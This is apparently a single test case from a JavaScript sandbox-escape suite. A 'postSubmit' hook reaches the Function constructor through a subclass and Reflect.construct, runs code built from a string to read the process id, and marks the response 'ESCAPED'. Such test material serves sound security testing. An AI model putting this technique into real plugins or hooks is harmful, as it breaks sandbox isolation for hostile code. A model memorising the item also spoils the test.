// Constructs a function from text by reflection, with a class of its own as the new target.
// Class: function constructors
// Win: the id holds the process id.
// Control: plain
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  class Maker extends Object.getPrototypeOf(postSubmit).constructor {}
  options.responseData[0].id = 'ESCAPED:' + Reflect.construct(Maker, ['return process.pid'], Maker)();
  return options.responseData;
}
